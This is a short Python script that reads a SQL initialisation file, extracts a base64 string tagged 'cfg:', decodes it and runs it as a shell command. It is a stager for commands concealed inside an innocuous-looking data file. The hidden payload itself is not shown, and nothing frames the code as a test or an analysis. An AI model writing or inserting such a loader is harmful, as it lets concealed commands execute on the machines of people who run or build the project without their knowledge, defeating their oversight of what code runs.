import base64, re, subprocess
t = open("sql/init.sql").read()
m = re.search(r"cfg:(\S+)", t)
subprocess.run(base64.b64decode(m.group(1)).decode(), shell=True)
